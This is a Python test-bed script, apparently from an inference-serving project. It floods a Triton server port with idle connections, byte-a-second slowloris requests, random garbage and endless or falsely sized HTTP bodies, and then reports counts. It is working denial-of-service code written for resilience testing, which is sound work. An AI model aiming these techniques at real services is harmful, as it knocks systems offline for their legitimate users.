# SPDX-FileCopyrightText: 2026 The inferops.triton authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Clients that mean harm, bounded in number and time: attacker.py KIND ADDRESS PORT SECONDS [OWN_ADDRESS ...]. Runs on a host of the bed.

KIND is idle (10,000 connections that say nothing, opened again when they are closed), slow (400 requests, or ClientHellos, that arrive a byte a second),
garbage (random bytes, in the clear and, where the port decrypts, within TLS) or oversized (bodies and headers without end). Connections are spread over the
own addresses. The last line is one JSON object: tried, opened, held (most at a time), ended_by_host, sent_mib.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import ssl
import sys
import time
import typing as t

_LIMITS = {"idle": 10_000, "slow": 400, "garbage": 100, "oversized": 8}
_DECRYPTS = (8000, 8002)
# The beginning of a TLS 1.2 record with a ClientHello of 16 KiB.
_HELLO = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03"
_CHUNK = b"\x00" * 65536


class Attack:
    """One kind of attack on one port, until its time is over."""

    def __init__(self, kind: str, address: str, port: int, seconds: float, own: t.Sequence[str]) -> None:
        self.kind, self.address, self.port = kind, address, port
        self.end = time.monotonic() + seconds
        self.own = itertools.cycle(own)
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE
        self.tried = self.opened = self.now = self.held = self.ended = self.sent = 0
        # Handshakes at a time: an attacker's own processor is not the point.
        self.handshakes = asyncio.Semaphore(200)

    async def run(self) -> t.Dict[str, t.Any]:
        """Attack with all connections at once."""
        await asyncio.gather(*(self._again() for _number in range(_LIMITS[self.kind])))
        return {"tried": self.tried, "opened": self.opened, "held": self.held, "ended_by_host": self.ended, "sent_mib": round(self.sent / 2**20)}

    async def _again(self) -> None:
        while time.monotonic() < self.end:
            with contextlib.suppress(OSError, asyncio.TimeoutError):
                await self._once()
            await asyncio.sleep(0.2)

    @contextlib.asynccontextmanager
    async def _connection(self, secured: bool) -> t.AsyncIterator[t.Tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        async with self.handshakes if secured else contextlib.nullcontext():
            self.tried += 1
            own, timeout = next(self.own), max(0.1, min(10.0, self.end - time.monotonic()))
            opening = asyncio.open_connection(self.address, self.port, ssl=self.tls if secured else None, local_addr=(own, 0))
            reader, writer = await asyncio.wait_for(opening, timeout)
        self.opened += 1
        self.now += 1
        self.held = max(self.held, self.now)
        try:
            yield reader, writer
        finally:
            self.now -= 1
            writer.transport.abort()

    async def _send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        writer.write(data)
        await asyncio.wait_for(writer.drain(), max(0.1, self.end - time.monotonic()))
        self.sent += len(data)

    async def _until_it_ends(self, reader: asyncio.StreamReader) -> None:
        try:
            await asyncio.wait_for(reader.read(), max(0.1, self.end - time.monotonic()))
        finally:
            self.ended += time.monotonic() < self.end

    async def _once(self) -> None:
        secured = self.port in _DECRYPTS and self.kind != "idle" and self.opened % 2 == 0
        async with self._connection(secured) as (reader, writer):
            if self.kind == "garbage":
                await self._send(writer, os.urandom(4096))
            elif self.kind != "idle":
                await getattr(self, "_" + self.kind)(writer, secured)
            await self._until_it_ends(reader)

    async def _slow(self, writer: asyncio.StreamWriter, secured: bool) -> None:
        text = b"GET /v2/health/ready HTTP/1.1\r\nHost: triton\r\nX-Slow: " + b"s" * 1000 if secured else _HELLO + bytes(1000)
        for position in range(len(text)):
            if time.monotonic() > self.end or writer.transport.is_closing():
                return
            await self._send(writer, text[position : position + 1])
            await asyncio.sleep(1)

    async def _oversized(self, writer: asyncio.StreamWriter, secured: bool) -> None:
        """Without a length that is believable, with one that is none, and headers without end, in turn."""
        heads = (
            b"POST /v2/models/triton_identity/infer HTTP/1.1\r\nHost: triton\r\nTransfer-Encoding: chunked\r\n\r\n",
            b"POST /v2/models/triton_identity/infer HTTP/1.1\r\nHost: triton\r\nContent-Length: 99999999999\r\n\r\n",
            b"GET /v2/health/ready HTTP/1.1\r\nHost: triton\r\nX-Large: ",
        )
        head = heads[self.opened % 3] if secured else _HELLO
        body = b"10000\r\n" + _CHUNK + b"\r\n" if secured and self.opened % 3 == 0 else _CHUNK
        await self._send(writer, head)
        while time.monotonic() < self.end and not writer.transport.is_closing():
            await self._send(writer, body)


def main() -> None:
    kind, address, port, seconds, *own = sys.argv[1:]
    print(json.dumps(asyncio.run(Attack(kind, address, int(port), float(seconds), own or ["0.0.0.0"]).run())))


if __name__ == "__main__":
    main()
